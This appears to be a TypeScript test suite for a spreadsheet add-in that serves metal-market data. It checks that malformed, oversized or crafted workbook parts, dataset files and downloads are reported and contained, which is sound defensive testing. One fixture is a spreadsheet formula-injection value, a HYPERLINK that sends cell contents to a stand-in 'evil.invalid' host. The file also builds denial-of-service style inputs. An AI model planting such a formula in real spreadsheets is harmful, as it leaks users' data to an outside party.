/**
 * Saved and shared data under faults (issue 11), as an adversarial tester tried them:
 * - a workbook part with bad character references loses only itself (never throws, never fails the
 *   runtime, never touches the bundled, team or local layers, and the next import keeps the rest);
 * - reading a crafted part is linear (work counted in characters examined, not timed) and capped;
 * - two workbooks sharing one local store neither leak into nor overwrite each other;
 * - a removal under a full quota stays removed after a restart;
 * - dataset files with implausible values, periods, names and duplicate ids: each reported with a
 *   code, left out, the rest kept (core, runtime layers, `smm build`, `smm eval --reports`);
 * - an endless or huge team-source body stops at the byte cap.
 */
import fs from "fs";
import http from "http";
import type { AddressInfo } from "net";
import os from "os";
import path from "path";
import { cmdBuild, cmdEval } from "../../src/cli/commands";
import type { Io } from "../../src/cli/commands";
import { callFunction } from "../../src/core/query";
import { readDatasetFile, toDatasetFile } from "../../src/core/store";
import type { Basis, Edition, Measure, Observation } from "../../src/core/types";
import { editionsToXml, MemoryStore, MemoryWorkbook, STORAGE_KEYS, XML_NAMESPACE, XML_PART_LIMIT, xmlToEditions } from "../../src/runtime/persist";
import type { WorkMeter } from "../../src/runtime/persist";
import type { FetchLike } from "../../src/runtime/sources";
import { fetchText, MAX_DOWNLOAD_BYTES } from "../../src/runtime/sources";
import { SmmRuntime, type RuntimeDeps } from "../../src/runtime/state";
import { edition, FailingStore, fakeFetch, mom, obs, startedRuntime } from "../addin/fixtures";

// ---------------------------------------------------------------------------------------- fixtures

const JAN = edition("2025-01", [obs("2025-01", "copper-cathode", "2025-01", "mom", -0.02)]);
const FEB = edition("2025-02", [obs("2025-02", "copper-cathode", "2025-02", "mom", 0.0438), obs("2025-02", "refined-nickel", "2025-02", "mom", -0.0569)]);
const MAR = edition("2025-03", [obs("2025-03", "copper-cathode", "2025-03", "mom", 0.061)]);
const APR = edition("2025-04", [obs("2025-04", "refined-zinc", "2025-04", "mom", 0.012)]);
const TEAM_JUN = edition("2025-06", [obs("2025-06", "refined-lead", "2025-06", "mom", 0.02)]);

const BUNDLED = "https://saved-data.invalid/bundled.json";
const TEAM = "https://team.invalid/smm.json";

const ROUTES = { [BUNDLED]: JSON.stringify(toDatasetFile([JAN])), [TEAM]: JSON.stringify(toDatasetFile([TEAM_JUN])) };

const started = (extra: Partial<RuntimeDeps> = {}): Promise<SmmRuntime> => startedRuntime(BUNDLED, ROUTES, extra);

const partIds = (wb: MemoryWorkbook): string[] => xmlToEditions(wb.xml ?? "").editions.map((e) => e.id);

// ----------------------------------------------------------------- a part with bad character refs

describe("a workbook part with bad character references loses only itself", () => {
  const BAD_REFS = ["&#x110000;", "&#0;", "&#xD800;", "&#99999999999999999999;", "&#x1;", "&#xFFFE;"];

  test.each(BAD_REFS)("%s in a sentence: never throws, the edition loads, the reference is reported and replaced", (ref) => {
    const xml = editionsToXml([FEB]).replace("(test fixture)", `(test ${ref} fixture)`);
    let r: ReturnType<typeof xmlToEditions> | undefined;
    expect(() => (r = xmlToEditions(xml))).not.toThrow();
    expect(r?.editions.map((e) => e.id)).toEqual(["2025-02"]);
    expect(r?.editions[0]?.observations).toHaveLength(2);
    const sentence = r?.editions[0]?.observations.find((o) => o.provenance.sentence.includes("(test "))?.provenance.sentence ?? "";
    expect(sentence).toContain("\uFFFD");
    expect(r?.issues.map((i) => i.message).join(" ")).toMatch(/invalid character reference/);
  });

  test("valid references still decode (astral, CJK, escapes, leading zeros)", () => {
    const xml = editionsToXml([FEB]).replace("(test fixture)", "(&#x1F600; &#38453; &#x10FFFF; &#60;b&#62; &#x0000000000000000000041;)");
    const r = xmlToEditions(xml);
    expect(r.issues).toEqual([]);
    expect(r.editions[0]?.observations.map((o) => o.provenance.sentence).join(" ")).toContain("\u{1F600} \u9635 \u{10FFFF} <b> A");
  });

  test("the runtime stays ready, every other layer answers, and the next import keeps the part's editions", async () => {
    const storage = new MemoryStore();
    // the user's settings and the team's cached copy in the local store, untouched by the bad part
    await storage.setItem(STORAGE_KEYS.settings, JSON.stringify({ teamUrl: TEAM }));
    const workbook = new MemoryWorkbook();
    workbook.xml = editionsToXml([FEB, MAR]).replace("(test fixture)", "(test &#x110000; fixture)");
    const rt = await started({ storage, workbook });
    expect(rt.loadStatus().phase).toBe("ready");
    expect(mom(rt, "copper-cathode", "2025-01")).toBe(-0.02); // bundled
    expect(mom(rt, "refined-lead", "2025-06")).toBe(0.02); // team
    expect(mom(rt, "copper-cathode", "2025-02")).toBe(0.0438); // the part itself
    expect(mom(rt, "copper-cathode", "2025-03")).toBe(0.061);
    expect(
      rt
        .loadStatus()
        .sources.imported.issues.map((i) => i.message)
        .join(" "),
    ).toMatch(/character reference/);
    const team = storage.data.get(STORAGE_KEYS.teamCache);
    // an import afterwards writes the part with everything it held plus the new edition
    const res = await rt.importEditions([APR]);
    expect(res.workbook.ok).toBe(true);
    expect(partIds(workbook)).toEqual(["2025-02", "2025-03", "2025-04"]);
    expect(xmlToEditions(workbook.xml ?? "").issues).toEqual([]); // the bad reference is gone for good
    expect(storage.data.get(STORAGE_KEYS.teamCache)).toBe(team);
    expect(storage.data.has(STORAGE_KEYS.imported)).toBe(false);
  });

  test("a part that cannot be read at all (a failing read) is not overwritten by the next import", async () => {
    const workbook = new MemoryWorkbook();
    workbook.xml = editionsToXml([FEB]);
    let fail = true;
    const reading = {
      read: async () => (fail ? Promise.reject(new Error("GeneralException")) : workbook.read()),
      write: (x: string | null) => workbook.write(x),
    };
    const rt = await started({ workbook: reading });
    expect(rt.loadStatus().phase).toBe("ready");
    expect(rt.loadStatus().sources.imported.message).toMatch(/GeneralException/);
    const res = await rt.importEditions([MAR]);
    expect(res.workbook.ok).toBe(false);
    expect(res.workbook.message).toMatch(/could not be read/);
    expect(partIds(workbook)).toEqual(["2025-02"]); // untouched
    // once the part reads again, the next import merges into it
    fail = false;
    expect((await rt.importEditions([APR])).workbook.ok).toBe(true);
    expect(partIds(workbook)).toEqual(["2025-02", "2025-03", "2025-04"]);
    expect(mom(rt, "copper-cathode", "2025-02")).toBe(0.0438);
  });

  test("outside Excel, a local cache that cannot be read is not overwritten by the next import either", async () => {
    const storage = new MemoryStore();
    await storage.setItem(STORAGE_KEYS.imported, JSON.stringify(toDatasetFile([FEB])));
    let fail = true;
    const flaky = {
      getItem: (k: string) => (fail && k === STORAGE_KEYS.imported ? Promise.reject(new Error("storage unavailable")) : storage.getItem(k)),
      setItem: (k: string, v: string) => storage.setItem(k, v),
      removeItem: (k: string) => storage.removeItem(k),
    };
    const rt = await started({ storage: flaky });
    expect(rt.loadStatus().phase).toBe("ready");
    expect((await rt.importEditions([MAR])).cache.ok).toBe(false);
    expect(readDatasetFile(storage.data.get(STORAGE_KEYS.imported) ?? "").editions.map((e) => e.id)).toEqual(["2025-02"]);
    fail = false;
    expect((await rt.importEditions([APR])).cache.ok).toBe(true);
    expect(readDatasetFile(storage.data.get(STORAGE_KEYS.imported) ?? "").editions.map((e) => e.id)).toEqual(["2025-02", "2025-03", "2025-04"]);
  });

  test("pathological JSON nesting inside the part loads and saves again (no stack overflow)", async () => {
    const file = toDatasetFile([FEB]) as unknown as { editions: Record<string, unknown>[] };
    const deep = "[".repeat(200_000) + "]".repeat(200_000);
    const json = JSON.stringify(file).replace('"issues":[]', `"issues":[{"code":"x","message":"deep","path":${deep},"extra":${deep}}]`);
    const workbook = new MemoryWorkbook();
    workbook.xml = `<smmDataset xmlns="${XML_NAMESPACE}">${json}</smmDataset>`;
    const rt = await started({ workbook });
    expect(rt.loadStatus().phase).toBe("ready");
    expect(mom(rt, "copper-cathode", "2025-02")).toBe(0.0438);
    const res = await rt.importEditions([MAR]);
    expect(res.workbook).toEqual({ ok: true });
    expect(partIds(workbook)).toEqual(["2025-02", "2025-03"]);
  });
});

// ------------------------------------------------------------------ linear work and a size cap

describe("reading a crafted part is linear and capped (work counted, not timed)", () => {
  const crafted: Record<string, (n: number) => string> = {
    "many <smmDataset openers": (n) => "<smmDataset ".repeat(Math.ceil(n / 12)),
    "many openers, then one end tag": (n) => "<smmDataset ".repeat(Math.ceil(n / 12)) + "</smmDataset>",
    "nested elements": (n) => "<smmDataset>".repeat(Math.ceil(n / 26)) + "</smmDataset>".repeat(Math.ceil(n / 26)),
    "many end tags": (n) => "<smmDataset>" + "</smmDataset".repeat(Math.ceil(n / 12)),
    "prefixed names": (n) => "<a:b:c:smmDataset ".repeat(Math.ceil(n / 18)),
    "a run of <": (n) => "<".repeat(n),
    "character references": (n) => `<smmDataset xmlns="${XML_NAMESPACE}">` + "&#x110000;&#x".repeat(Math.ceil(n / 14)) + "</smmDataset>",
    "an unfinished start tag with quotes": (n) => `<smmDataset a="` + "'>".repeat(n / 2),
  };

  test.each(Object.keys(crafted))("%s: work grows linearly (at most a few steps per character)", (name) => {
    const make = crafted[name] as (n: number) => string;
    const steps = (n: number): { len: number; steps: number } => {
      const xml = make(n);
      const meter: WorkMeter = { steps: 0 };
      const r = xmlToEditions(xml, meter);
      expect(Array.isArray(r.editions)).toBe(true);
      return { len: xml.length, steps: meter.steps };
    };
    const small = steps(50_000);
    const big = steps(400_000);
    expect(small.steps).toBeGreaterThan(0);
    expect(big.steps).toBeLessThanOrEqual(4 * big.len + 100);
    // eight times the input, at most about eight times the work (quadratic would be 64 times)
    expect(big.steps / small.steps).toBeLessThan(8 * 1.2);
  });

  test("a part over the size cap is reported and not parsed", () => {
    const meter: WorkMeter = { steps: 0 };
    const r = xmlToEditions("<smmDataset ".repeat(Math.ceil((XML_PART_LIMIT + 1) / 12)), meter);
    expect(r.editions).toEqual([]);
    expect(r.issues[0]).toMatchObject({ code: "too-large" });
    expect(meter.steps).toBeLessThan(10);
  });

  test("a 1 MB crafted part in the runtime: ready, reported, the other layers answer", async () => {
    const workbook = new MemoryWorkbook();
    workbook.xml = "<smmDataset ".repeat(90_000);
    const rt = await started({ workbook });
    expect(rt.loadStatus().phase).toBe("ready");
    expect(rt.loadStatus().sources.imported.message).toMatch(/smmDataset/);
    expect(mom(rt, "copper-cathode", "2025-01")).toBe(-0.02);
  });
});

// --------------------------------------------------------------- two workbooks, one local store

describe("two workbooks sharing one local store", () => {
  test("an import in workbook 1 never reaches workbook 2's part (one after the other)", async () => {
    const storage = new MemoryStore();
    const wb1 = new MemoryWorkbook();
    const wb2 = new MemoryWorkbook();
    const one = await started({ storage, workbook: wb1 });
    await one.importEditions([FEB]);
    const two = await started({ storage, workbook: wb2 });
    expect(two.dataset.getEdition("2025-02")?.origin).not.toBe("imported");
    await two.importEditions([MAR]);
    expect(partIds(wb1)).toEqual(["2025-02"]);
    expect(partIds(wb2)).toEqual(["2025-03"]);
    // nor its report sentences
    expect(wb2.xml).not.toContain("2025-02");
  });

  test("both open at once: each keeps its own editions, across restarts", async () => {
    const storage = new MemoryStore();
    const wb1 = new MemoryWorkbook();
    const wb2 = new MemoryWorkbook();
    const [one, two] = await Promise.all([started({ storage, workbook: wb1 }), started({ storage, workbook: wb2 })]);
    await Promise.all([one.importEditions([FEB]), two.importEditions([MAR])]);
    await one.importEditions([APR]);
    await Promise.all([one.idle(), two.idle()]);
    const again1 = await started({ storage, workbook: wb1 });
    const again2 = await started({ storage, workbook: wb2 });
    expect(again1.loadStatus().sources.imported.editions).toEqual(["2025-02", "2025-04"]);
    expect(again2.loadStatus().sources.imported.editions).toEqual(["2025-03"]);
    expect(mom(again2, "copper-cathode", "2025-02")).toBe("#N/A");
    expect(mom(again1, "copper-cathode", "2025-03")).toBe("#N/A");
  });

  test("a local cache left by an earlier version (every workbook's imports) is not merged into a workbook", async () => {
    const storage = new MemoryStore();
    await storage.setItem(STORAGE_KEYS.imported, JSON.stringify(toDatasetFile([FEB, MAR])));
    const wb = new MemoryWorkbook();
    const rt = await started({ storage, workbook: wb });
    expect(rt.loadStatus().sources.imported.editions).toEqual([]);
    await rt.importEditions([APR]);
    expect(partIds(wb)).toEqual(["2025-04"]);
  });
});

// ------------------------------------------------------------------- removal under a full quota

describe("removal under a full quota", () => {
  test("the removed edition does not come back after a restart", async () => {
    const storage = new FailingStore();
    const workbook = new MemoryWorkbook();
    const rt = await started({ storage, workbook });
    await rt.importEditions([FEB, MAR]);
    storage.failing = true;
    const res = await rt.removeImported("2025-02");
    expect(res?.workbook.ok).toBe(true);
    const again = await started({ storage, workbook });
    expect(again.loadStatus().sources.imported.editions).toEqual(["2025-03"]);
    expect(mom(again, "refined-nickel", "2025-02")).toBe("#N/A");
  });

  test("nor when the full store still holds it from an earlier version", async () => {
    const storage = new FailingStore();
    await storage.setItem(STORAGE_KEYS.imported, JSON.stringify(toDatasetFile([FEB, MAR])));
    storage.failing = true;
    const workbook = new MemoryWorkbook();
    workbook.xml = editionsToXml([FEB, MAR]);
    const rt = await started({ storage, workbook });
    await rt.removeImported("2025-02");
    const again = await started({ storage, workbook });
    expect(again.loadStatus().sources.imported.editions).toEqual(["2025-03"]);
  });
});

// --------------------------------------------------------------- implausible dataset files

const HUGE = "x".repeat(1_000_000);
const FORMULA = '=HYPERLINK("https://evil.invalid/?leak="&A1,"click")';

/** A 2025-02 edition with two good figures and one of every implausible thing, and a second 2025-02. */
function implausibleFile(): { json: string; good: number; bad: number } {
  const id = "2025-02";
  const good = [
    obs(id, "copper-cathode", "2025-02", "mom", 0.0438),
    obs(id, "refined-nickel", "2025-03", "mom", -0.01, "forecast"),
    obs(id, "stainless-steel", "2025-02", "output", 2_900_000, "actual", "300-series"),
  ];
  const bad = [
    obs(id, "copper-cathode", "2025-02", "output", 1e308),
    obs(id, "refined-zinc", "2025-02", "mom", -5), // -500%
    obs(id, "copper-cathode", "2025-02", "operating_rate", 7.5), // 750%
    obs(id, "refined-lead", "1900-01", "mom", 0.01),
    obs(id, "refined-lead", "9999-12", "mom", 0.01),
    obs(id, "refined-lead", "2025-05", "mom", 0.01, "forecast"), // 3 months ahead
    obs(id, "refined-lead", "2024-01", "mom", 0.01), // 13 months back
    obs(id, "stainless-steel", "2025-02", "output", 100, "actual", HUGE),
    obs(id, "stainless-steel", "2025-02", "output", 100, "actual", FORMULA),
    obs(id, "a".repeat(5000), "2025-02", "mom", 0.01),
  ];
  const sections = ["Copper Cathode", "y".repeat(100_000), FORMULA, "@SUM(A1)", "line\nbreak"];
  const main: Edition = { ...edition(id, [...good, ...bad]), sections };
  main.trends = [
    {
      product: "refined-lead",
      segment: FORMULA,
      period: "2025-02",
      basis: "actual",
      direction: "up",
      magnitude: "none",
      provenance: main.observations[0]!.provenance,
    },
  ];
  const dup = edition(id, [obs(id, "copper-cathode", "2025-02", "mom", 0.99)]);
  return { json: JSON.stringify(toDatasetFile([main, dup, MAR])), good: good.length, bad: bad.length + (sections.length - 1) + 1 + 1 };
}

function checkRead(r: ReturnType<typeof readDatasetFile>, f: ReturnType<typeof implausibleFile>): void {
  const feb = r.editions.find((e) => e.id === "2025-02");
  expect(r.editions.map((e) => e.id)).toEqual(["2025-02", "2025-03"]);
  expect(feb?.observations).toHaveLength(f.good);
  expect(feb?.sections).toEqual(["Copper Cathode"]);
  expect(feb?.trends).toEqual([]);
  expect(r.issues).toHaveLength(f.bad);
  for (const i of r.issues) {
    expect(["implausible", "bad-name", "duplicate-edition"]).toContain(i.code);
    expect(i.message.length).toBeLessThan(400); // a 1 MB name does not make a 1 MB message
  }
  const codes = r.issues.map((i) => i.code);
  expect(codes.filter((c) => c === "implausible")).toHaveLength(7);
  expect(codes.filter((c) => c === "duplicate-edition")).toHaveLength(1);
  expect(
    r.issues
      .filter((i) => i.code === "implausible")
      .map((i) => i.reason)
      .sort(),
  ).toEqual(["implausible", "implausible", "implausible", "other-time", "other-time", "other-time", "other-time"]);
  const text = r.issues.map((i) => i.message).join("\n");
  expect(text).toMatch(/operating rate of 750\.0% is outside 0-100%/);
  expect(text).toMatch(/a fall of 100% or more/);
  expect(text).toMatch(/1900-01 is outside the months/);
  expect(text).toMatch(/9999-12 is outside the months/);
  expect(text).toMatch(/start like a spreadsheet formula/);
  expect(text).toMatch(/second edition 2025-02/);
}

describe("dataset files with implausible values, periods, names and ids", () => {
  test("core: each is reported with a code and left out; the valid figures are kept", () => {
    const f = implausibleFile();
    checkRead(readDatasetFile(f.json), f);
  });

  test("the team source, the local cache and the workbook part: the same, and no bad name reaches SMM.PRODUCTS()", async () => {
    const f = implausibleFile();
    const layers: [string, Partial<RuntimeDeps>, Record<string, string>][] = [
      ["team source", { defaultTeamUrl: TEAM, storage: new MemoryStore() }, { [TEAM]: f.json }],
      ["local cache", { storage: Object.assign(new MemoryStore(), { data: new Map([[STORAGE_KEYS.imported, f.json]]) }) }, {}],
      [
        "workbook part",
        {
          workbook: Object.assign(new MemoryWorkbook(), {
            xml: `<smmDataset xmlns="${XML_NAMESPACE}">${f.json.replace(/&/g, "&amp;").replace(/</g, "&lt;")}</smmDataset>`,
          }),
        },
        {},
      ],
    ];
    for (const [layer, deps, routes] of layers) {
      const rt = new SmmRuntime();
      await rt.start({ fetch: fakeFetch({ ...ROUTES, ...routes }), bundledUrl: BUNDLED, timeoutMs: 2000, ...deps });
      await rt.idle();
      const st = rt.loadStatus();
      expect([layer, st.phase]).toEqual([layer, "ready"]);
      const src = layer === "team source" ? st.sources.team : st.sources.imported;
      expect([layer, src.issues.length]).toEqual([layer, f.bad]);
      expect(mom(rt, "copper-cathode", "2025-02")).toBe(0.0438);
      expect(mom(rt, "refined-zinc", "2025-02")).toBe("#N/A");
      const products = callFunction(rt.dataset, "PRODUCTS", []);
      const names = products.ok ? (products.value as unknown[][]).flat().map(String) : [];
      expect(names.length).toBeGreaterThan(10);
      expect(names.every((n) => n.length <= 400 && !/^[=+\-@]/.test(n))).toBe(true);
    }
  });

  test("an import (from the pane) is held to the same rules, so what is saved reloads the same", async () => {
    const workbook = new MemoryWorkbook();
    const rt = await started({ workbook });
    const bad = edition("2025-04", [
      obs("2025-04", "refined-zinc", "2025-04", "mom", 0.012),
      obs("2025-04", "refined-zinc", "2025-07", "mom", 0.5, "forecast"),
      obs("2025-04", "copper-cathode", "2025-04", "operating_rate", 7.5),
    ]);
    await rt.importEditions([bad]);
    const st = rt.loadStatus().sources.imported;
    expect(st.issues.map((i) => i.code)).toEqual(["implausible", "implausible"]);
    expect(rt.dataset.getEdition("2025-04")?.observations).toHaveLength(1);
    const back = xmlToEditions(workbook.xml ?? "");
    expect(back.issues).toEqual([]);
    expect(back.editions[0]?.observations).toHaveLength(1);
  });

  describe("the smm command", () => {
    let dir = "";
    let file = "";
    beforeAll(() => {
      dir = fs.mkdtempSync(path.join(os.tmpdir(), "smm-saved-data-"));
      file = path.join(dir, "implausible.json");
      fs.writeFileSync(file, implausibleFile().json);
    });
    afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));
    const io = (stdin = ""): Io & { o: string; e: string } => {
      const x = { o: "", e: "", out: (s: string) => void (x.o += s), err: (s: string) => void (x.e += s), readStdin: () => stdin };
      return x;
    };

    test("build: reports each problem on stderr and writes only the valid figures", () => {
      const out = path.join(dir, "out.json");
      const x = io();
      expect(cmdBuild([file, "-o", out], x)).toBe(0);
      const f = implausibleFile();
      const lines = x.e.split("\n").filter((l) => l.startsWith("issue: "));
      expect(lines).toHaveLength(f.bad);
      expect(lines.filter((l) => l.startsWith("issue: implausible: "))).toHaveLength(7);
      expect(lines.filter((l) => l.startsWith("issue: bad-name: "))).toHaveLength(f.bad - 8);
      expect(lines.filter((l) => l.startsWith("issue: duplicate-edition: "))).toHaveLength(1);
      const built = readDatasetFile(fs.readFileSync(out, "utf8"));
      expect(built.issues).toEqual([]);
      expect(built.editions.find((e) => e.id === "2025-02")?.observations).toHaveLength(f.good);
    });

    test("eval --reports: the same issues on stderr; answers on stdout", () => {
      const x = io('=SMM.MOM("copper","2025-02")\n=SMM.MOM("zinc","2025-02")\n=SMM.VALUE("copper","2025-02","operating_rate")\n');
      expect(cmdEval(["--reports", file], x)).toBe(0);
      const lines = x.o
        .trim()
        .split("\n")
        .map((l) => JSON.parse(l) as { value?: unknown; error?: string });
      expect(lines[0]).toMatchObject({ value: 0.0438 });
      expect(lines[1]).toMatchObject({ error: "#N/A" });
      expect(lines[2]).toMatchObject({ error: "#N/A" });
      expect(x.e).toMatch(/issue: implausible: .*750\.0%/);
      expect(x.e).toMatch(/issue: duplicate-edition: /);
    });
  });
});

// --------------------------------------------------------------- an endless team-source body

describe("an endless or huge team-source body stops at the byte cap", () => {
  let server: http.Server;
  let base = "";
  const written = new Map<string, number>();
  beforeAll(async () => {
    server = http.createServer((req, res) => {
      const p = req.url ?? "/";
      written.set(p, 0);
      if (p === "/declared") {
        res.writeHead(200, { "Content-Type": "application/json", "Content-Length": String(10 * 1024 ** 3) });
        res.write("[");
        return; // claims 10 GB, sends one byte
      }
      res.writeHead(200, { "Content-Type": "application/json" });
      const chunk = Buffer.alloc(64 * 1024, p === "/endless-json" ? "[" : "x");
      const pump = (): void => {
        while (!res.destroyed) {
          written.set(p, (written.get(p) ?? 0) + chunk.length);
          if (!res.write(chunk)) return void res.once("drain", pump);
        }
      };
      res.on("close", () => undefined);
      pump();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    server.closeAllConnections();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });

  const nodeFetch: FetchLike = (url, init) => fetch(url, init);

  test("an endless body: the download stops at the cap, with a clear message, long before the timeout", async () => {
    const cap = 2 * 1024 * 1024;
    const r = await fetchText(nodeFetch, `${base}/endless`, 10_000, cap);
    expect(r).toMatchObject({ ok: false, code: "too-large" });
    expect(!r.ok && r.message).toMatch(/larger than the 2 MB limit; the download was stopped/);
    await new Promise((resolve) => setTimeout(resolve, 200));
    // what the server managed to send: the cap plus what the sockets buffer, not gigabytes
    expect(written.get("/endless")).toBeLessThan(cap + 16 * 1024 * 1024);
  });

  test("a declared Content-Length over the cap is refused before reading", async () => {
    const r = await fetchText(nodeFetch, `${base}/declared`, 10_000);
    expect(r).toMatchObject({ ok: false, code: "too-large" });
  });

  test("a fetch without a body stream: the text is checked against the cap", async () => {
    const big: FetchLike = async () => ({ ok: true, status: 200, statusText: "OK", text: async () => "x".repeat(1024 * 1024 + 1) });
    expect(await fetchText(big, "https://x.invalid/a.json", 1000, 1024 * 1024)).toMatchObject({ ok: false, code: "too-large" });
  });

  test("the runtime: the team source says so, the other layers answer", async () => {
    const rt = new SmmRuntime();
    await rt.start({
      fetch: async (url, init) => (url === BUNDLED ? fakeFetch(ROUTES)(url, init) : nodeFetch(url, init)),
      bundledUrl: BUNDLED,
      storage: new MemoryStore(),
      defaultTeamUrl: `${base}/endless-json`,
      timeoutMs: 20_000,
    });
    const st = rt.loadStatus().sources.team;
    expect(st.state).toBe("error");
    expect(st.message).toMatch(new RegExp(`larger than the ${MAX_DOWNLOAD_BYTES / 1024 ** 2} MB limit`));
    expect(rt.loadStatus().phase).toBe("ready");
    expect(mom(rt, "copper-cathode", "2025-01")).toBe(-0.02);
  });
});
